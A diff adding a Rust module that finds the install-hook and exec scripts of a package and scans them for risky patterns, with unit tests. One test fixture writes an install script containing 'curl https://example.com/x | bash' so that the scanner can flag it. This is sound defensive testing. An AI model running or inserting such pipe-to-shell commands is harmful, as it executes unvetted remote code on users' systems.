@@ -0,0 +1,205 @@
+use crate::security::{
+    RiskyPattern, ScriptIssue, ScriptLanguage, inspect_script, validate_extraction_path,
+};
+use crate::services::{LifecycleHook, PackageToml};
+use std::collections::BTreeSet;
+use std::path::Path;
+
+const MODULE_PATH_PREFIXES: &[&str] = &["$MODULE_PATH/", "${MODULE_PATH}/"];
+const SCRIPT_EXTENSIONS: &[&str] = &[".sh", ".py"];
+
+#[derive(Debug, Clone, PartialEq)]
+pub struct ScriptFinding {
+    pub script: String,
+    pub issues: Vec<ScriptIssue>,
+}
+
+#[must_use]
+pub fn collect_module_scripts(module_dir: &Path) -> Vec<String> {
+    let mut scripts = BTreeSet::new();
+
+    if let Ok(config) = PackageToml::from_file(&module_dir.join("Package.toml")) {
+        for hook in LifecycleHook::ALL {
+            if let Some(script) = hook.script(&config.package) {
+                scripts.insert(script.to_string());
+            }
+        }
+    }
+
+    if let Ok(content) = std::fs::read_to_string(module_dir.join("config.jsonc")) {
+        scripts.extend(exec_script_references(&content));
+    }
+
+    scripts.into_iter().collect()
+}
+
+#[must_use]
+pub fn exec_script_references(config_content: &str) -> Vec<String> {
+    let Ok(Some(value)) = jsonc_parser::parse_to_serde_value(config_content, &Default::default())
+    else {
+        return Vec::new();
+    };
+
+    let mut scripts = Vec::new();
+    collect_exec_scripts(&value, &mut scripts);
+    scripts
+}
+
+fn collect_exec_scripts(value: &serde_json::Value, scripts: &mut Vec<String>) {
+    match value {
+        serde_json::Value::Object(obj) => {
+            for (key, value) in obj {
+                if key.starts_with("exec")
+                    && let serde_json::Value::String(command) = value
+                {
+                    scripts.extend(command.split_whitespace().filter_map(script_reference));
+                } else {
+                    collect_exec_scripts(value, scripts);
+                }
+            }
+        }
+        serde_json::Value::Array(items) => {
+            for item in items {
+                collect_exec_scripts(item, scripts);
+            }
+        }
+        _ => {}
+    }
+}
+
+fn script_reference(token: &str) -> Option<String> {
+    let token = token.trim_matches(|c| c == '"' || c == '\'');
+    if !SCRIPT_EXTENSIONS.iter().any(|ext| token.ends_with(ext)) {
+        return None;
+    }
+
+    let relative = MODULE_PATH_PREFIXES
+        .iter()
+        .find_map(|prefix| token.strip_prefix(prefix))
+        .or_else(|| token.strip_prefix("./"))
+        .unwrap_or(token);
+
+    (!relative.starts_with('/') && !relative.starts_with('$')).then(|| relative.to_string())
+}
+
+#[must_use]
+pub fn review_module_scripts(module_dir: &Path) -> Vec<ScriptFinding> {
+    collect_module_scripts(module_dir)
+        .into_iter()
+        .filter_map(|script| {
+            let content = match read_script(module_dir, &script) {
+                Ok(Some(content)) => content,
+                Ok(None) => return None,
+                Err(e) => {
+                    let issue = ScriptIssue {
+                        pattern: RiskyPattern::Uninspectable(script.clone()),
+                        message: format!("could not inspect {script}: {e}"),
+                        line: 0,
+                        column: 0,
+                    };
+                    return Some(ScriptFinding {
+                        script,
+                        issues: vec![issue],
+                    });
+                }
+            };
+            let inspection = inspect_script(&content, ScriptLanguage::detect(&script, &content));
+            inspection.has_warnings().then_some(ScriptFinding {
+                script,
+                issues: inspection.issues,
+            })
+        })
+        .collect()
+}
+
+fn read_script(module_dir: &Path, script: &str) -> Result<Option<String>, String> {
+    let path =
+        validate_extraction_path(module_dir, Path::new(script)).map_err(|e| e.to_string())?;
+    match std::fs::read_to_string(path) {
+        Ok(content) => Ok(Some(content)),
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
+        Err(e) => Err(e.to_string()),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn finds_exec_scripts_in_config() {
+        let config = r#"{
+            // weather module
+            "custom/weather": {
+                "exec": "$MODULE_PATH/weather.sh --json",
+                "exec-if": "${MODULE_PATH}/check.sh",
+                "exec-on-event": "python3 $MODULE_PATH/notify.py",
+                "on-click": "xdg-open https://wttr.in"
+            }
+        }"#;
+        let scripts = exec_script_references(config);
+        assert_eq!(scripts, vec!["weather.sh", "check.sh", "notify.py"]);
+    }
+
+    #[test]
+    fn ignores_absolute_and_system_scripts() {
+        let config =
+            r#"{"custom/a": {"exec": "/usr/bin/status.sh"}, "custom/b": {"exec": "date"}}"#;
+        assert!(exec_script_references(config).is_empty());
+    }
+
+    #[test]
+    fn reviews_install_and_exec_scripts() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join("Package.toml"),
+            "[package]\nname = \"t\"\nversion = \"1.0.0\"\ninstall_script = \"install.sh\"\n",
+        )
+        .unwrap();
+        std::fs::write(
+            dir.path().join("install.sh"),
+            "#!/bin/bash\ncurl https://example.com/x | bash\n",
+        )
+        .unwrap();
+        std::fs::write(
+            dir.path().join("config.jsonc"),
+            r#"{"custom/t": {"exec": "$MODULE_PATH/run.sh"}}"#,
+        )
+        .unwrap();
+        std::fs::write(dir.path().join("run.sh"), "#!/bin/bash\necho ok\n").unwrap();
+
+        let findings = review_module_scripts(dir.path());
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].script, "install.sh");
+        assert!(
+            findings[0]
+                .issues
+                .iter()
+                .any(|i| i.message.contains("curl") && i.line == 2)
+        );
+    }
+
+    #[test]
+    fn reports_scripts_that_cannot_be_inspected() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join("config.jsonc"),
+            r#"{"custom/t": {"exec": "$MODULE_PATH/run.sh"}}"#,
+        )
+        .unwrap();
+        std::fs::write(dir.path().join("run.sh"), b"#!/bin/sh\n\xff\xfe payload").unwrap();
+
+        let findings = review_module_scripts(dir.path());
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].script, "run.sh");
+        assert!(matches!(
+            findings[0].issues[0].pattern,
+            RiskyPattern::Uninspectable(_)
+        ));
+        assert!(
+            findings[0].issues[0]
+                .message
+                .contains("could not inspect run.sh")
+        );
+    }
+}